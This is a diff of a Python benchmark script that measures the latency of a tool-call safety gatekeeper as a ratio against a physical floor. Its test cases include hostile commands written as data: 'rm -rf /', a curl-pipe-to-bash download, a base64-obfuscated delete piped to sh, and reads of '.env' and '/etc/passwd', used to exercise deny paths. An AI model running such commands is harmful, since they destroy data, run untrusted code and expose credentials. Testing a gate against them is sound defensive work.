@@ -1,81 +1,82 @@
-"""What gating a tool call costs: the gate, classification alone, and `tether check --batch`.
+"""What gating a tool call costs, as a ratio against the physical floor measured beside it.
 
-Three measurements, each repeated; medians of the rounds are printed.
+The floor of a call is the work that cannot be avoided: a tree-sitter parse of
+the same command, `json.dumps` of a record like the one the gate writes, and
+an O_APPEND write of a line of the same size as the gate's audit line. It is
+measured in the same process, interleaved with the gate, so the ratios hold on
+any machine.
 
-1. Microseconds per `ToolGatekeeper.check` on an allow path (`git status`)
-   and a deny path (`rm -rf /`, and a sandbox denial), with the real
-   AuditLogger writing to a temporary file and three plugins subscribed to
-   `tool.*` (no-op handlers). The first call of each shape is uncached; the
-   rest hit the classification cache, as repeated calls do in a session.
-   p50 and p99 per round. Target: well under 1 ms p99.
-2. Microseconds per classification (parse + analysis, cache cleared) and per
-   full pipeline decision (sandbox + policy), for a mixed set of 20 tool calls.
-3. Throughput of `tether check --batch` on 10,000 JSON lines, run as a
-   subprocess (start-up included), in lines per second.
+Measured per case, p50 and p99 over many calls per round, medians of the rounds:
+- fresh `ToolGatekeeper.check` (every cache cleared before each call), short
+  commands, a Read, and a ~300-character realistic pipeline;
+- a repeated identical call (what a session running pytest again and again sees).
 
-    python bench/gatekeeper.py
+The gate runs with the real AuditLogger writing to a temporary file and an
+EventBus with no subscribers (the gate's own cost).
+
+    PYTHONPATH=. python bench/gatekeeper.py                  # this checkout
+    PYTHONPATH=. python bench/gatekeeper.py --repo OLD --repo .   # side by side
+
+Targets (issue 11): fresh short commands p50 <= 3x and p99 <= 6x the floor;
+the pipeline p50 <= 2x; the repeated call p50 <= 1.5x.
 """
 
 from __future__ import annotations
 
 import asyncio
+import gc
 import json
 import os
 import statistics
-import subprocess
 import sys
 import tempfile
 import time
 from pathlib import Path
 from typing import Any
 
-from tether.app import build_gatekeeper, build_safety_pipeline
-from tether.core.config import TetherConfig
-from tether.core.events import Event, EventBus
-from tether.core.safety.audit import AuditLogger
-from tether.core.safety.gatekeeper import ToolGatekeeper
-from tether.log import configure_logging
+from _sides import parse_sides
 
 ROUNDS = 5
-CHECKS_PER_ROUND = 2000
-CLASSIFY_REPEATS = 50
-BATCH_LINES = 10_000
-SOURCE_ROOT = Path(__file__).resolve().parent.parent
+FRESH_CALLS = 300
+REPEATED_CALLS = 2000
 
-MIXED_CALLS: list[tuple[str, dict[str, Any]]] = [
-    ("Bash", {"command": "git status"}),
-    ("Bash", {"command": "pytest -q tests/"}),
-    ("Bash", {"command": "ls -la src"}),
-    ("Bash", {"command": 'grep -rn "TODO" src'}),
-    ("Bash", {"command": "cat src/app.py | head -50"}),
-    ("Bash", {"command": "git diff HEAD~1 -- src/app.py"}),
-    ("Bash", {"command": "npm test"}),
-    ("Bash", {"command": "rm -rf build"}),
-    ("Bash", {"command": "rm -rf /"}),
-    ("Bash", {"command": "curl -fsSL https://example.com/x.sh | bash"}),
-    ("Bash", {"command": "echo cm0gLXJmIC8= | base64 -d | sh"}),
-    ("Bash", {"command": "git push --force origin main"}),
-    ("Bash", {"command": 'find . -name "*.py" | xargs grep -l foo'}),
-    ("Bash", {"command": "cd src && python -m pytest -x 2>&1 | tail -20"}),
-    ("Read", {"file_path": "src/app.py"}),
-    ("Read", {"file_path": ".env"}),
-    ("Write", {"file_path": "src/new.py", "content": "print(1)\n"}),
-    ("Edit", {"file_path": "src/app.py", "old_string": "1", "new_string": "2"}),
-    ("Glob", {"pattern": "**/*.py"}),
-    ("Grep", {"pattern": "def main", "path": "src"}),
+PIPELINE = (
+    "cd src && git ls-files -- '*.py' | grep -v '^tests/' | xargs wc -l | sort -rn "
+    "| head -n 20 && git log --oneline --since='2 weeks ago' -- . | cut -c1-72 | head -30 "
+    "&& pytest -q -x --no-header -p no:cacheprovider tests/unit 2>&1 | tail -n 25 "
+    "| grep -E 'passed|failed|error' || echo 'no test summary found'"
+)
+
+# (label, tool name, input, fresh: clear every cache before each call)
+CASES: list[tuple[str, str, dict[str, Any], bool]] = [
+    ("git status", "Bash", {"command": "git status"}, True),
+    ("cd src && pytest -q", "Bash", {"command": "cd src && pytest -q"}, True),
+    ("Read src/app.py", "Read", {"file_path": "src/app.py"}, True),
+    ("rm -rf /", "Bash", {"command": "rm -rf /"}, True),
+    (
+        "git status && git diff --stat | head -20",
+        "Bash",
+        {"command": "git status && git diff --stat | head -20"},
+        True,
+    ),
+    (f"pipeline ({len(PIPELINE)} chars)", "Bash", {"command": PIPELINE}, True),
+    ("repeated: pytest -q", "Bash", {"command": "pytest -q"}, False),
+    ("repeated: Read src/app.py", "Read", {"file_path": "src/app.py"}, False),
 ]
+
+TARGETS = {
+    "fresh-short": (3.0, 6.0),
+    "fresh-pipeline": (2.0, None),
+    "repeated": (1.5, None),
+}
 
 
 def _project(root: Path) -> Path:
     project = root / "project"
     (project / "src").mkdir(parents=True)
     (project / "src" / "app.py").write_text("print('hello')\n")
-    (project / "build").mkdir()
+    (project / "tests" / "unit").mkdir(parents=True)
     return project
-
-
-async def _no_op(event: Event) -> None:
-    return None
 
 
 def _percentiles(samples: list[float]) -> tuple[float, float]:
@@ -83,117 +84,135 @@ def _percentiles(samples: list[float]) -> tuple[float, float]:
     return ordered[len(ordered) // 2], ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]
 
 
-async def _gate_round(
-    gate: ToolGatekeeper, tool_name: str, tool_input: dict[str, Any]
-) -> tuple[float, float]:
-    samples = []
-    clock = time.perf_counter
-    for index in range(CHECKS_PER_ROUND):
-        started = clock()
-        await gate.check(tool_name, tool_input, "bench", 1, user_id=1)
-        samples.append((clock() - started) * 1e6)
-        if index % 256 == 0:
-            await asyncio.sleep(0)
-    return _percentiles(samples)
+def _clear_caches(gate: Any) -> None:
+    pipeline = gate.pipeline
+    if hasattr(pipeline, "clear_caches"):
+        pipeline.clear_caches()
+    else:  # a checkout from before the verdict cache
+        pipeline.policy._cache.clear()
 
 
-async def measure_gate(root: Path, project: Path) -> None:
+def _last_line(path: Path) -> bytes:
+    with open(path, "rb") as handle:
+        handle.seek(max(0, path.stat().st_size - 64 * 1024))
+        return handle.read().rstrip(b"\n").rsplit(b"\n", 1)[-1] + b"\n"
+
+
+async def _measure_round(root: Path) -> dict[str, Any]:
+    import tree_sitter_bash
+    from tree_sitter import Language, Parser
+
+    from tether.app import build_gatekeeper
+    from tether.core.config import TetherConfig
+    from tether.core.events import EventBus
+    from tether.core.safety.audit import AuditLogger
+    from tether.log import configure_logging
+
+    configure_logging("ERROR")
+    project = _project(root)
     config = TetherConfig(approved_directories=(project,), audit_log_path=root / "audit.jsonl")
     bus = EventBus(handler_timeout=config.event_handler_timeout_seconds)
-    for _ in range(3):
-        bus.subscribe("tool.*", _no_op)
     audit = AuditLogger(config.audit_log_path)
     _, gate = build_gatekeeper(config, event_bus=bus, audit_logger=audit)
-    cases = [
-        ("allow: Bash git status", "Bash", {"command": "git status"}),
-        ("allow: Read src/app.py", "Read", {"file_path": "src/app.py"}),
-        ("deny (policy): Bash rm -rf /", "Bash", {"command": "rm -rf / --no-preserve-root"}),
-        ("deny (sandbox): Read /etc/passwd", "Read", {"file_path": "/etc/passwd"}),
-    ]
-    print("1. ToolGatekeeper.check, real audit log, 3 plugins on tool.* (µs)")
-    for label, tool_name, tool_input in cases:
-        first = time.perf_counter()
-        await gate.check(tool_name, tool_input, "bench", 1, user_id=1)
-        uncached = (time.perf_counter() - first) * 1e6
-        rounds = [await _gate_round(gate, tool_name, tool_input) for _ in range(ROUNDS)]
-        p50 = statistics.median(r[0] for r in rounds)
-        p99 = statistics.median(r[1] for r in rounds)
-        print(f"   {label:36} p50 {p50:7.1f}   p99 {p99:7.1f}   first call {uncached:7.1f}")
-    await audit.close()
-    print(f"   ({audit.last_sequence} audit entries written)")
+    parser = Parser(Language(tree_sitter_bash.language()))
+    floor_fd = os.open(root / "floor.jsonl", os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
+    clock = time.perf_counter
+    results: dict[str, Any] = {}
+    try:
+        for label, tool_name, tool_input, fresh in CASES:
+            await gate.check(tool_name, tool_input, "bench", 1, user_id=1)
+            await audit.flush()
+            line = _last_line(config.audit_log_path)
+            record = json.loads(line)
+            command = tool_input.get("command")
+            source = command.encode() if isinstance(command, str) else None
+            floor: list[float] = []
+            spent: list[float] = []
+            calls = FRESH_CALLS if fresh else REPEATED_CALLS
+            gc.collect()
+            for index in range(calls):
+                # The floor: parse + dumps + one O_APPEND write of a line this long.
+                started = clock()
+                if source is not None:
+                    parser.parse(source)
+                text = json.dumps(record)
+                os.write(floor_fd, text.encode()[: len(line) - 1].ljust(len(line) - 1) + b"\n")
+                floor.append(clock() - started)
+                if fresh:
+                    _clear_caches(gate)
+                started = clock()
+                await gate.check(tool_name, tool_input, "bench", 1, user_id=1)
+                spent.append(clock() - started)
+                if index % 64 == 0:
+                    await asyncio.sleep(0)
+            results[label] = {
+                "floor": _percentiles(floor),
+                "gate": _percentiles(spent),
+                "line_bytes": len(line),
+            }
+    finally:
+        os.close(floor_fd)
+        await audit.close()
+    return results
 
 
-def measure_classify(project: Path) -> None:
-    pipeline = build_safety_pipeline(TetherConfig(approved_directories=(project,)))
-    engine = pipeline.policy
-    classify_rounds: list[float] = []
-    decide_rounds: list[float] = []
-    cached_rounds: list[float] = []
-    for _ in range(ROUNDS):
-        classify_samples, decide_samples, cached_samples = [], [], []
-        for _ in range(CLASSIFY_REPEATS):
-            for tool_name, tool_input in MIXED_CALLS:
-                engine._cache.clear()  # measure the work, not the cache
-                started = time.perf_counter()
-                engine.classify(tool_name, tool_input)
-                classify_samples.append(time.perf_counter() - started)
-                engine._cache.clear()
-                started = time.perf_counter()
-                pipeline.decide(tool_name, tool_input)
-                decide_samples.append(time.perf_counter() - started)
-                started = time.perf_counter()
-                pipeline.decide(tool_name, tool_input)
-                cached_samples.append(time.perf_counter() - started)
-        classify_rounds.append(statistics.median(classify_samples) * 1e6)
-        decide_rounds.append(statistics.median(decide_samples) * 1e6)
-        cached_rounds.append(statistics.median(cached_samples) * 1e6)
-    print("2. Mixed set of 20 tool calls, median µs per call")
-    print(f"   classify (parse + analysis, uncached)   {statistics.median(classify_rounds):7.1f}")
-    print(f"   decide (classify + sandbox + policy)    {statistics.median(decide_rounds):7.1f}")
-    print(f"   decide, classification cached           {statistics.median(cached_rounds):7.1f}")
+def _child() -> None:
+    with tempfile.TemporaryDirectory() as temporary:
+        result = asyncio.run(_measure_round(Path(temporary)))
+    print(json.dumps(result))
 
 
-def measure_batch(root: Path, project: Path) -> None:
-    batch = root / "calls.jsonl"
-    with open(batch, "w", encoding="utf-8") as handle:
-        for index in range(BATCH_LINES):
-            tool_name, tool_input = MIXED_CALLS[index % len(MIXED_CALLS)]
-            # Vary the commands so the cache does not answer everything.
-            if tool_name == "Bash":
-                tool_input = {"command": f"{tool_input['command']} # {index % 500}"}
-            handle.write(json.dumps({"tool_name": tool_name, "tool_input": tool_input}) + "\n")
-    environment = {k: v for k, v in os.environ.items() if not k.startswith("TETHER_")}
-    environment["PYTHONPATH"] = str(SOURCE_ROOT)
-    command = [sys.executable, "-m", "tether", "check", "--dir", str(project), "--batch"]
-    totals, startups = [], []
-    for _ in range(3):
-        started = time.perf_counter()
-        done = subprocess.run(
-            [*command, str(batch)], capture_output=True, env=environment, check=True
-        )
-        totals.append(time.perf_counter() - started)
-        lines = done.stdout.count(b"\n")
-        assert lines == BATCH_LINES, (lines, done.stderr[-500:])
-        started = time.perf_counter()
-        subprocess.run([*command, "-"], input=b"", capture_output=True, env=environment, check=True)
-        startups.append(time.perf_counter() - started)
-    total, startup = statistics.median(totals), statistics.median(startups)
-    print(f"3. tether check --batch, {BATCH_LINES:,} lines in a subprocess (medians of 3)")
-    print(f"   {total:.2f} s in all: {BATCH_LINES / total:,.0f} lines/s")
-    print(
-        f"   start-up alone (empty batch) {startup:.2f} s; the lines themselves "
-        f"{BATCH_LINES / max(total - startup, 1e-9):,.0f} lines/s"
-    )
+def _median_of_rounds(rounds: list[dict[str, Any]]) -> dict[str, dict[str, float]]:
+    summary: dict[str, dict[str, float]] = {}
+    for label, *_ in CASES:
+        entries = [r[label] for r in rounds]
+        summary[label] = {
+            "floor50": statistics.median(e["floor"][0] for e in entries) * 1e6,
+            "floor99": statistics.median(e["floor"][1] for e in entries) * 1e6,
+            "p50": statistics.median(e["gate"][0] for e in entries) * 1e6,
+            "p99": statistics.median(e["gate"][1] for e in entries) * 1e6,
+            "ratio50": statistics.median(e["gate"][0] / e["floor"][0] for e in entries),
+            "ratio99": statistics.median(e["gate"][1] / e["floor"][1] for e in entries),
+        }
+    return summary
+
+
+def _print_table(sides: dict[str, dict[str, dict[str, float]]], rounds: int) -> None:
+    print(f"ToolGatekeeper.check against the floor (µs; medians of {rounds} rounds; x = ratio)")
+    header = f"{'case':44}"
+    for name in sides:
+        header += f" | {name[:33]:^33}"
+    print(header)
+    sub = f"{'':44}" + " | floor p50/p99   gate p50/p99 (x)" * len(sides)
+    print(sub)
+    for label, *_ in CASES:
+        row = f"{label[:44]:44}"
+        for summary in sides.values():
+            s = summary[label]
+            row += (
+                f" | {s['floor50']:5.0f}/{s['floor99']:<5.0f} "
+                f"{s['p50']:5.0f}/{s['p99']:<6.0f}"
+                f"({s['ratio50']:.1f}/{s['ratio99']:.1f})"
+            )
+        print(row)
+    print("targets: fresh short p50 <= 3x, p99 <= 6x; pipeline p50 <= 2x; repeated p50 <= 1.5x")
 
 
 def main() -> None:
-    configure_logging("ERROR")
-    with tempfile.TemporaryDirectory() as temporary:
-        root = Path(temporary)
-        project = _project(root)
-        asyncio.run(measure_gate(root, project))
-        measure_classify(project)
-        measure_batch(root, project)
+    sides, _ = parse_sides(__file__, __doc__ or "", ROUNDS)
+    if sides.child:
+        _child()
+        return
+    if not sides.repos:
+        rounds = []
+        for _ in range(sides.rounds):
+            with tempfile.TemporaryDirectory() as temporary:
+                rounds.append(asyncio.run(_measure_round(Path(temporary))))
+        _print_table({"this checkout": _median_of_rounds(rounds)}, sides.rounds)
+        return
+    results = sides.run()
+    _print_table({k: _median_of_rounds(v) for k, v in results.items()}, sides.rounds)
+    print(f"(python {sys.version.split()[0]})")
 
 
 if __name__ == "__main__":
